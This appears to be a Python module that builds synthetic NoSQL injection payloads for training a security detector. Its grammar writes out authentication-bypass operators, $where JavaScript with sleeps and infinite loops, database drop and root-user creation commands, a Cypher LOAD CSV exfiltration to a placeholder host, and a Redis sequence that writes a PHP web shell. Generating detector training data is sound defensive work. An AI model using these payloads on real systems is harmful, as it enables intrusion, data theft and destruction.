"""NoSQL injection: operators in names and objects, script in $where, shell statements."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import sometimes_percent
from securitai.train.corpora.kinds import BODY, COOKIE, NAME, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
field = password¦username¦user¦pass¦email¦token¦role¦login¦id¦_id¦name¦secret¦resetToken¦isAdmin¦passwd¦pwd¦key
opname = $ne¦$gt¦$gte¦$lt¦$lte¦$regex¦$nin¦$exists¦$not¦$eq¦$where¦$or¦$nor¦$type¦$mod¦$elemMatch¦$expr¦$function¦$jsonSchema¦$func
names:
  4×‹field›[‹opname›]
  2×[‹opname›]
  ‹field›[‹opname›][]
  ‹field›[‹opname›][‹d1›]
  ‹az›[‹field›][‹opname›]
  ‹field›[$not][‹opname›]
  ‹field›[‹opname›][‹opname›]
  ‹field›.‹opname›
  $where
  $or[0][‹field›]
  ‹field›%5B‹opname›%5D
  ‹opname›
  filter[where][‹field›][‹opname›]
  where[‹field›][‹opname›]
  ‹field›[$regex]=.*&‹field›[$options]
lit:
  2×null
  2×""
  ‹d1›
  -1
  "‹rnd›"
  "‹user›"
  true
  false
  "^‹c›"
  ".*"
  ".{‹#1-30›}"
  "^‹rnd›"
  "‹az›.*"
  []
  ["‹user›","‹user›","‹user›"]
  "a"
  ‹n›
  undefined
op:
  5×{"‹opname›": ‹lit›}
  4×{"$ne": ‹lit›}
  3×{"$gt": ‹lit›}
  3×{"$regex": ‹lit›}
  {"$nin": ["‹az›"]}
  {"$not": {"$eq": ‹lit›}}
  {"$exists": ‹true¦false¦1›}
  {$‹ne¦gt¦regex›: ‹lit›}
  { $ne: ‹d1› }
  {$gt: ''}
  {'$ne':'‹az›'}
  {"$regex":"^‹az›","$options":"si"}
  {"&exists":false}
  {"$where":"‹js›"}
  {"$gt":"","$lt":"~"}
  {"$type":‹d1›}
obj:
  4×{"‹field›": ‹op›, "‹field›": ‹op›}
  3×{"‹field›":"‹user›","‹field›":‹op›}
  2×{"‹field›": ‹op›}
  {"‹az›":{"‹field›":‹op›}}
  {"$or": [{"‹field›": "‹user›"}, {"‹field›": ‹op›}]}
  {"$or":[{},{"‹az›":"‹az›"}]}
  {"$where": "‹js›"}
  {"‹field›":"‹user›","$where":"‹js›"}
  {"$and":[{"‹field›":‹op›},{"‹field›":‹op›}]}
  {"selector":{"_id":{"$gt":null}},"limit":‹n›}
  {"where":{"‹field›":{"‹neq¦like¦regexp¦gt›":"‹rnd›"}}}
  {"query":{"‹field›":‹op›}}
  {"msg":"method","method":"‹az›","params":[{"token":‹op›}]}
  [{"$match":{"‹field›":‹op›}},{"$lookup":{"from":"users","localField":"_id","foreignField":"_id","as":"‹az›"}}]
  {"$expr":{"$function":{"body":"function(){‹js›}","args":[],"lang":"js"}}}
  {"pipeline":[{"$unionWith":"users"}]}
  {"mapreduce":"‹az›","map":"function(){‹js›}","reduce":"function(k,v){return 1}","out":{"inline":1}}
  {"eval":"function(){‹js›}"}
js:
  3×return true
  2×1==1
  sleep(‹#1000-20000›)
  sleep(‹#1000-20000›)||true
  return this.‹field› == '‹user›'
  this.‹field›.match(/^‹c›/)
  this.‹field›.length == ‹#1-40›
  this.‹field›[‹d1›] == '‹c›'
  this.‹field› != ''
  Object.keys(this)[‹d1›].match('^.{‹d1›}‹c›.*')
  var d=new Date();do{c=new Date();}while(c-d<‹#1000-20000›);return true
  return (function(){sleep(‹#1000-9000›)})()
  db.getCollectionNames().length>‹d1›
  tojson(this)[‹d1›]=='‹c›'
  hex_md5('‹az›')
  return Math.random()
  this.constructor.constructor("return process")()
  typeof this.‹field› !== 'undefined'
  while(true);
quote:
  5×'
  2×"
  '"
  \'
tail:
  3×‹e›
  3×//
  %00
  ‹nul›
  &&'‹c›'=='‹c›
  ||'‹c›'=='‹d1›
  //+%00
  <!--
  ;//
  || '‹c›
  && ''=='
inject:
  4×‹pre›‹quote› || ‹js›‹tail›
  3×‹pre›‹quote› && ‹js›‹tail›
  2×‹pre›‹quote›;‹js›;‹tail›
  2×‹pre›‹quote›; ‹js›; var ‹az›='‹c›
  ‹pre›‹quote›||'1'=='1
  ‹pre›‹quote› && this.‹field›.match(/.*/)//+%00
  ‹pre›‹quote› && this.‹az›.match(/.*/)//+%00
  ‹pre›‹quote›%20%26%26%20this.‹field›.match(/.*/)//+%00
  ‹pre›‹quote›, $or: [ {}, { '‹c›':'‹c›
  ‹pre›‹quote›, $where: '‹js›
  ‹pre›, $where: '1 == 1'
  true, $where: '1 == 1'
  $where: '‹js›'
  ‹pre›‹quote› } ], $comment:'‹az›'
  ‹pre›‹quote›});‹js›;({'‹c›':'‹c›
  ‹pre›‹quote›});db.‹users¦injection¦stores¦az›.‹drop()¦insert({success:1})¦find()¦remove({})›;‹tail›
  ‹pre›';it=new Date();do{pt=new Date();}while(pt-it<‹#1000-20000›);
  ';return '‹c›'=='‹c›' && ''=='
  ";return(true);var ‹az›='‹c›
  ‹d1›;return true
  ‹d1›;‹js›
  ‹n›;sleep(‹#1000-20000›);
  ';sleep(‹#1000-20000›);'
  ';sleep(‹#1000-20000›);+'
  || 1==1
  ‹pre›' || true || '
  ‹pre›'||this.‹field›||'
  ‹pre›'+(function(){‹js›})()+'
  function(){‹js›}
  db.‹az›.insert({success:1});return 1;db.‹az›.mapReduce(function() { { emit(1,1
  db.‹users¦accounts¦az›.find({‹field›:‹op›})
  db.‹users¦az›.drop()
  db.dropDatabase();
  db.adminCommand({shutdown:1})
  db.createUser({user:'‹user›',pwd:'‹rnd›',roles:['root']})
  rs.status();db.‹az›.find()
  ‹pre›' })‹nl›‹nl›RETURN n UNION MATCH (n) RETURN n //
  ‹pre›' OR 1=1 WITH 1 as a MATCH (n) DETACH DELETE n //
  ‹pre›' CALL db.labels() YIELD label LOAD CSV FROM 'http://‹host›/'+label AS l RETURN 0 //
  ‹pre›'}) RETURN 0 as _0 UNION CALL db.labels() yield label LOAD CSV FROM '‹url›/?l='+label as l RETURN 0 as _0 //
  ‹pre›';FLUSHALL;
  ‹crlf›FLUSHALL‹crlf›
  ‹crlf›CONFIG SET dir /var/www/html‹crlf›CONFIG SET dbfilename ‹rnd›.php‹crlf›SAVE‹crlf›
  ‹crlf›SET ‹az› "<?php system($_GET[0]);?>"‹crlf›
  EVAL "return redis.call('‹config¦keys¦get›','‹az›')" 0
  ‹pre›' UNION ALL SELECT META().id FROM ‹az› //
  ‹pre›‹crlf›stats items‹crlf›
  ‹pre› 0 0 ‹#1-99›‹crlf›‹az›‹crlf›get ‹az›‹crlf›
  {"script":{"source":"‹js›"}}
  _id:* OR true
  [$ne]=‹d1›
  [$regex]=.*
  ‹field›[$ne]=‹rnd›&‹field›[$ne]=‹rnd›
  ‹field›[‹opname›]=‹rnd›
  ‹field›[$regex]=^‹az›.*
""",
    PARTS,
)
_VALUES = (VALUE, COOKIE, BODY)
KINDS = (
    AttackKind("nosqli.name", Category.NOSQLI, _G.maker("names"), 2.0, (NAME,)),
    AttackKind("nosqli.operator", Category.NOSQLI, _G.maker("op", sometimes_percent), 2.0),
    AttackKind("nosqli.object", Category.NOSQLI, _G.maker("obj"), 3.0, _VALUES),
    AttackKind("nosqli.script", Category.NOSQLI, _G.maker("inject", sometimes_percent), 4.0),
)
